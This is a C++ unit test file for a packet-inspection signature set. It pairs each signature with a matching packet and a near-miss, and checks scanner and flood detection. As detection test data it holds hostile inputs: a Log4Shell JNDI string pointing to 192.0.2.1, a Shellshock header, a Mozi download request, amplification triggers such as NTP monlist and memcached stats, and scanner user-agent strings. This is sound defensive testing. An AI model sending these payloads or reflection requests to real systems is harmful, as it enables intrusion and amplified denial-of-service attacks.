// Each signature of configs/signatures.yaml: a packet that gets its label, and one near it that
// does not.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <fstream>
#include <map>
#include <set>
#include <sstream>

#include "control/inspect/signature_file.h"
#include "tests/support/inspected.h"

namespace lull::testing {
namespace {

using namespace std::string_literals;

struct Pair {
    const char* label;
    Sent match;
    Sent near;
};

Sent udp(uint16_t from, uint16_t to, std::string payload) {
    return {.protocol = kProtocolUdp,
            .source_port = from,
            .destination_port = to,
            .payload = std::move(payload)};
}
Sent tcp(uint16_t from, uint16_t to, std::string payload) {
    return {.source_port = from, .destination_port = to, .payload = std::move(payload)};
}
Sent agent(const std::string& name) {
    return tcp(40000, 80, "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: " + name + "\r\n\r\n");
}
std::string pad(std::size_t bytes) {
    return std::string(bytes, 'p');
}

/// In the order of the file, at least one a signature; what an entry's pattern is about differs in
/// one thing between the two.
std::vector<Pair> pairs() {
    const std::string monlist = "\x17\0\3\x2a"s + pad(4);
    const std::string snmp = "0\x26\2\1\1\4\6public"s;
    const std::string coap = "\x40\1\x12\x34\xbb.well-known\4core"s;
    const std::string services =
        "\0\0\0\0\0\1\0\0\0\0\0\0\x09_services\7_dns-sd\4_udp\5local\0\0\x0c\0\1"s;
    const std::string cookies(16, 'c');
    std::vector<Pair> all{
        {"ntp-monlist", udp(40000, 123, monlist), udp(40000, 123, "\x17\0\3\x2b"s + pad(4))},
        {"ntp-monlist", udp(123, 80, "\xd7\0\3\x2a"s + pad(440)),
         udp(123, 80, "\xd7\0\3\x2b"s + pad(440))},
        {"ntp-monlist", udp(123, 53, "\x97\0\3\x2a"s + pad(440)),
         udp(124, 53, "\x97\0\3\x2a"s + pad(440))},
        {"ntp-control", udp(40000, 123, "\x16\2\0\1"s + pad(8)),
         udp(40000, 123, "\x16\1\0\1"s + pad(8))},
        {"ntp-control", udp(123, 80, "\x16\x82\0\1"s + pad(400)),
         udp(123, 80, "\x16\x42\0\1"s + pad(400))},
        {"dns-any", udp(40000, 53, dns_query(qname("isc.org"), 255)),
         udp(40000, 53, dns_query(qname("isc.org"), 1))},
        {"dns-large-txt", udp(53, 80, dns_query(qname("a.example"), 16, 0x8180) + pad(1200)),
         udp(53, 80, dns_query(qname("a.example"), 16, 0x8180) + pad(200))},
        {"ssdp-reflection", udp(1900, 80, "HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\n\r\n"),
         udp(1901, 80, "HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\n\r\n")},
        {"ssdp-search-all",
         udp(40000, 1900,
             "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nST: ssdp:all\r\n\r\n"),
         udp(40000, 1900,
             "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nST: urn:x\r\n\r\n")},
        {"cldap-reflection", udp(40000, 389, "0\x25\2\1\1\x63\x20\4\0\n\1\0"s),
         udp(40000, 389, "0\x25\2\1\1\x60\x20\4\0\n\1\0"s)},
        {"memcached-reflection", udp(40000, 11211, "\0\1\0\0\0\1\0\0stats\r\n"s),
         udp(40000, 11211, "\0\1\0\0\0\1\0\0version\r\n"s)},
        {"memcached-reflection", udp(11211, 80, "\0\1\0\0\0\5\0\0VALUE a 0 9\r\n"s),
         udp(11211, 80, "\0\1\0\0\0\5\0\0VALID a 0 9\r\n"s)},
        {"snmp-bulk", udp(40000, 161, snmp + "\xa5\x19"s), udp(40000, 161, snmp + "\xa0\x19"s)},
        {"snmp-bulk", udp(161, 80, snmp + "\xa2\x19"s + pad(1200)),
         udp(161, 80, snmp + "\xa2\x19"s + pad(80))},
        {"chargen-reflection", udp(19, 80, std::string(72, 'A') + "\r\n"),
         udp(19, 80, std::string(20, 'A') + "\r\n")},
        {"qotd-reflection",
         udp(17, 80,
             "\"My spelling is Wobbly.  It's good spelling but it Wobbles, and the letters\""),
         udp(17, 80, "\"My spelling is Wobbly.\"")},
        {"ripv1-reflection", udp(40000, 520, "\1\1\0\0\0\0\0\0"s + pad(16)),
         udp(520, 520, "\1\2\0\0\0\0\0\0"s + pad(16))},
        {"tftp-reflection", udp(40000, 69, "\0\1boot.bin\0octet\0"s),
         udp(40000, 69, "\0\3boot.bin\0octet\0"s)},
        {"ws-discovery",
         udp(40000, 3702,
             "<s:Envelope xmlns:d=\"http://schemas.xmlsoap.org/ws/2005/04/discovery\">"),
         udp(40000, 3702, "<s:Envelope xmlns:d=\"http://schemas.example.org/\">")},
        {"coap-discovery", udp(40000, 5683, coap), udp(40000, 5683, "\x40\1\x12\x34\xb4temp"s)},
        {"coap-discovery", udp(5683, 80, "\x60\x45\x12\x34"s + pad(300)),
         udp(5683, 80, "\x60\x45\x12\x34"s + pad(20))},
        {"mdns-reflection", udp(40000, 5353, services),
         udp(40000, 5353, dns_query(qname("printer.local"), 12, 0))},
        {"mdns-reflection", udp(5353, 80, "\0\0\x84\0\0\0\0\1\0\0\0\0"s + pad(300)),
         udp(5353, 5354, "\0\0\x84\0\0\0\0\1\0\0\0\0"s + pad(60))},
        {"isakmp-reflection", udp(500, 80, cookies + "\1\x10\2\0"s + pad(400)),
         udp(500, 80, cookies + "\1\x10\2\0"s + pad(60))},
        {"zgrab", agent("Mozilla/5.0 zgrab/0.x"), agent("Mozilla/5.0 zgra/0.x")},
        {"masscan-agent", agent("masscan/1.3"), agent("massscan/1.3")},
        {"nmap-scripts", agent("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org)"),
         agent("Mozilla/5.0 (compatible; Nmap)")},
        {"nikto", agent("Mozilla/5.00 (Nikto/2.1.6)"), agent("Mozilla/5.00 (Nokia)")},
        {"sqlmap", agent("sqlmap/1.7"), agent("sqlmapper")},
        {"nuclei", agent("Nuclei - Open-source project"), agent("Nucleus")},
        {"dir-busters", agent("gobuster/3.1.0"), agent("busters/3.1")},
        {"wpscan", agent("WPScan v3.8"), agent("WordPress/6.0")},
        {"web-scanners", agent("Mozilla/5.0 acunetix"), agent("Mozilla/5.0 Firefox/120.0")},
        {"research-scanners", agent("Mozilla/5.0 (compatible; CensysInspect/1.1)"),
         agent("Mozilla/5.0 (compatible; Googlebot/2.1)")},
        {"log4shell", agent("${jndi:ldap://192.0.2.1/a}"), agent("${java:version}")},
        {"shellshock", agent("() { :;}; /bin/ping"), agent("() { };")},
        {"sip-scanner",
         udp(5080, 5060, "OPTIONS sip:100@a SIP/2.0\r\nUser-Agent: friendly-scanner\r\n\r\n"),
         udp(5080, 5060, "OPTIONS sip:100@a SIP/2.0\r\nUser-Agent: Asterisk\r\n\r\n")},
        {"mozi-download", tcp(40000, 80, "GET /Mozi.m HTTP/1.1\r\n\r\n"),
         tcp(40000, 80, "GET /Mozilla HTTP/1.1\r\n\r\n")},
        {"dns", udp(40000, 53, dns_query(qname("a.example"))),
         udp(40000, 54, dns_query(qname("a.example")))},
        {"dns", tcp(40000, 53, be16(27) + dns_query(qname("a.example"))), tcp(40000, 53, "what?")},
        {"mdns", udp(5353, 5353, dns_query(qname("a.local"), 12, 0).replace(0, 2, "\0\0"s)),
         udp(5353, 5353, dns_query(qname("a.local"), 12, 0x2800))},
        {"ntp", udp(123, 123, "\x23\2\6\xec"s + pad(44)), udp(123, 123, "\x3f\2\6\xec"s + pad(44))},
        {"ssdp", udp(40000, 1900, "NOTIFY * HTTP/1.1\r\n\r\n"),
         udp(40000, 1900, "NOTICE * HTTP/1.1\r\n\r\n")},
        {"snmp", udp(40000, 161, snmp + "\xa0\x19"s),
         udp(40000, 161, "1\x26\2\1\1\4\6public\xa0\x19"s)},
        {"http", tcp(40000, 8080, "GET / HTTP/1.1\r\n\r\n"),
         tcp(40000, 8080, "GETS / HTTP/1.1\r\n\r\n")},
        {"tls", tcp(40000, 8443, tls_record(client_hello("a.example"))),
         tcp(40000, 8443, "\x17"s + tls_record(client_hello("a.example")).substr(1))},
        {"quic", udp(40000, 443, "\xc0\0\0\0\1\x08"s + pad(8) + "\0\0\x44\0"s + pad(1024)),
         udp(40000, 443, "\xc0\0\0\0\7\x08"s + pad(8) + "\0\0\x44\0"s + pad(1024))},
        {"ssh", tcp(22, 40000, "SSH-2.0-OpenSSH_9.2\r\n"), tcp(22, 40000, "SSH-9.0\r\n")},
        {"smtp", tcp(25, 40000, "220 mail.example ESMTP\r\n"), tcp(25, 40000, "221 bye\r\n")},
        {"ftp", tcp(21, 40000, "220 ftp.example\r\n"), tcp(21, 40000, "226 done\r\n")},
        {"pop3", tcp(110, 40000, "+OK ready\r\n"), tcp(110, 40000, "-ERR\r\n")},
        {"imap", tcp(143, 40000, "* OK [CAPABILITY IMAP4rev1]\r\n"), tcp(143, 40000, "* NO\r\n")},
        {"telnet", tcp(23, 40000, "\xff\xfd\x18"s), tcp(23, 40000, "\xff\x18\x18"s)},
        {"bgp", tcp(40000, 179, std::string(16, '\xff') + "\0\x1d\1\4"s),
         tcp(40000, 179, std::string(15, '\xff') + "\0\x1d\1\4"s)},
        {"rtsp", tcp(40000, 554, "DESCRIBE rtsp://a/ RTSP/1.0\r\n"),
         tcp(40000, 554, "DESCRIBE http://a/\r\n")},
        {"bittorrent", tcp(40000, 6881, "\x13"s + "BitTorrent protocol"s + pad(48)),
         tcp(40000, 6881, "\x12"s + "BitTorrent protocol"s)},
        {"bittorrent", udp(6881, 6882, "d1:ad2:id20:"s + pad(20)),
         udp(6881, 6882, "d1:xd2:id20:"s + pad(20))},
        {"stun", udp(40000, 3478, "\0\1\0\0\x21\x12\xa4\x42"s + pad(12)),
         udp(40000, 3478, "\0\1\0\0\x21\x12\xa4\x43"s + pad(12))},
        {"sip", udp(5080, 5060, "REGISTER sip:a SIP/2.0\r\n"),
         udp(5080, 5060, "REGISTRY sip:a SIP/2.0\r\n")},
        {"dhcp", udp(68, 67, "\1\1\6\0"s + pad(200)), udp(68, 67, "\1\1\7\0"s + pad(200))},
        {"isakmp", udp(500, 500, cookies + "\x21\x20\x22\x08"s + pad(40)),
         udp(500, 500, cookies + "\x21\x30\x22\x08"s + pad(40))},
    };
    return all;
}

class ShippedSignatures : public ::testing::Test {
  protected:
    static void SetUpTestSuite() {
        std::ifstream in(LULL_SOURCE_DIR "/configs/signatures.yaml");
        std::ostringstream text;
        text << in.rdbuf();
        auto parsed = parse_signatures(text.str(), "configs/signatures.yaml");
        ASSERT_TRUE(parsed) << ::testing::PrintToString(parsed.error().problems);
        file = new SignatureFile(std::move(*parsed));
        book = new SignatureBook;
        auto signatures = book->adopt(*file);
        ASSERT_TRUE(signatures);
        auto built = InspectSet::build({.signatures = *signatures, .sites = {}});
        ASSERT_TRUE(built) << built.error().message;
        set = built->release();
    }
    static std::string label(LabelId id) { return book->entries()[index_of(id)].name; }
    static std::string label_of(const Sent& sent) {
        InspectCounts counts;
        return label(look_at(*set, frame_of(sent), counts).label);
    }
    inline static SignatureFile* file = nullptr;
    inline static SignatureBook* book = nullptr;
    inline static InspectSet* set = nullptr;
};

TEST_F(ShippedSignatures, each_labels_its_packet_and_not_the_one_beside_it) {
    std::map<std::string, std::size_t> tried;
    for (const Pair& pair : pairs()) {
        EXPECT_EQ(label_of(pair.match), pair.label) << pair.match.payload;
        EXPECT_NE(label_of(pair.near), pair.label) << pair.near.payload;
        tried[pair.label] += 1;
    }
    std::map<std::string, std::size_t> shipped;
    for (const NamedSignature& each : file->signatures) {
        shipped[each.signature.name] += each.signature.mark == Mark::kNone ? 1 : 0;
        EXPECT_FALSE(each.reference.empty()) << each.signature.name;
    }
    for (const auto& [name, count] : shipped) {
        EXPECT_GE(tried[name], count) << name << ": an entry without a packet here";
    }
}

TEST_F(ShippedSignatures, everyday_traffic_is_never_hostile) {
    const std::vector<Sent> plain{
        udp(40000, 53, dns_query(qname("www.kcna.kp"))),
        udp(53, 40000, dns_query(qname("www.kcna.kp"), 1, 0x8180) + pad(300)),
        udp(53, 40000, dns_query(qname("dkim.example"), 16, 0x8180) + pad(500)),
        udp(123, 123, "\x24\2\6\xec"s + pad(44)),
        udp(40000, 123, "\x1b"s + std::string(47, '\0')),
        agent("Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"),
        agent("curl/7.88.1"),
        tcp(80, 40000, "HTTP/1.1 200 OK\r\nServer: nginx\r\n\r\n"),
        tcp(40000, 443, tls_record(client_hello("www.example.org"))),
        udp(40000, 161, "0\x26\2\1\1\4\6public\xa1\x19"s),
        udp(500, 500, std::string(16, 'c') + "\x21\x20\x22\x08"s + pad(400)),
        tcp(40000, 389, "0\x0c\2\1\1\x60\7\2\1\3\4\0\x80\0"s)};
    InspectCounts counts;
    for (const Sent& sent : plain) {
        const Finding finding = look_at(*set, frame_of(sent), counts);
        EXPECT_FALSE(finding.hostile) << label(finding.label) << ": " << sent.payload;
    }
}

// ---- what headers alone tell ----

struct Syn {
    uint32_t from = 0xc6330101, to = 0xcb000707, sequence = 0x01020304;
    uint16_t from_port = 40000, to_port = 80, identification = 1;
    uint8_t flags = kTcpSyn;
};

Finding open_with(Inspector& inspector, const InspectSet& set, const Syn& syn, uint32_t beat = 8) {
    Bytes frame = frame_of({.source_port = syn.from_port,
                            .destination_port = syn.to_port,
                            .payload = "",
                            .flags = syn.flags});
    const auto put = [&](std::size_t at, uint64_t value, int bytes) {
        for (int i = 0; i < bytes; ++i) {
            frame[at + static_cast<std::size_t>(i)] =
                static_cast<uint8_t>(value >> 8 * (bytes - 1 - i));
        }
    };
    put(14 + 4, syn.identification, 2);
    put(14 + 12, syn.from, 4);
    put(14 + 16, syn.to, 4);
    put(14 + 20 + 4, syn.sequence, 4);
    return inspector.open(set, frame, view_of(frame), beat);
}

TEST_F(ShippedSignatures, scanners_are_known_by_their_headers) {
    Inspector inspector(0);
    const auto marked = [&](const Syn& syn) {
        return label(open_with(inspector, *set, syn).label);
    };
    EXPECT_EQ(marked({.identification = 54321}), "zmap");
    EXPECT_EQ(marked({.identification = 54322}), "");
    EXPECT_EQ(marked({.identification = 54321, .flags = kTcpSyn | kTcpAck}), "");
    EXPECT_EQ(marked({.sequence = 0xcb000707}), "mirai-scan");
    EXPECT_EQ(marked({.sequence = 0xcb000708}), "");
    const Syn masscan{.sequence = 0x11112222,
                      .identification = static_cast<uint16_t>(0x0707 ^ 80 ^ 0x2222)};
    EXPECT_EQ(marked(masscan), "masscan");
    Syn other = masscan;
    other.identification += 1;
    EXPECT_EQ(marked(other), "");
}

TEST_F(ShippedSignatures, many_flows_that_nobody_follows_up_are_a_scan_or_a_flood) {
    const auto last_of = [&](auto&& syn_of, bool follow) {
        Inspector inspector(0);
        std::string last;
        for (uint32_t i = 0; i < 1000; ++i) {
            const Syn syn = syn_of(i);
            last = label(open_with(inspector, *set, syn, 8 + i / 200).label);
            if (follow) {
                PacketView view{};
                view.family = Family::kIpv4;
                view.protocol = kProtocolTcp;
                view.source4 = syn.from;
                view.destination4 = syn.to;
                inspector.followed_up(view, 8 + i / 200);
            }
        }
        return last;
    };
    const auto scan = [](uint32_t i) { return Syn{.to = 0x0a000000 + i * 7919}; };
    const auto flood = [](uint32_t i) { return Syn{.from = 0x0a000000 + i * 7919}; };
    const auto reflected = [](uint32_t i) {
        return Syn{.from = 0x0a000000 + i * 7919, .flags = kTcpSyn | kTcpAck};
    };
    EXPECT_EQ(last_of(scan, false), "syn-scan");
    EXPECT_EQ(last_of(flood, false), "syn-flood");
    EXPECT_EQ(last_of(reflected, false), "syn-ack-flood");
    EXPECT_EQ(last_of(scan, true), "") << "a proxy that is answered";
    EXPECT_EQ(last_of(flood, true), "") << "a busy site";
    EXPECT_EQ(last_of([](uint32_t i) { return Syn{.from = i * 7919, .to = i * 104729}; }, false),
              "");
}

}  // namespace
}  // namespace lull::testing
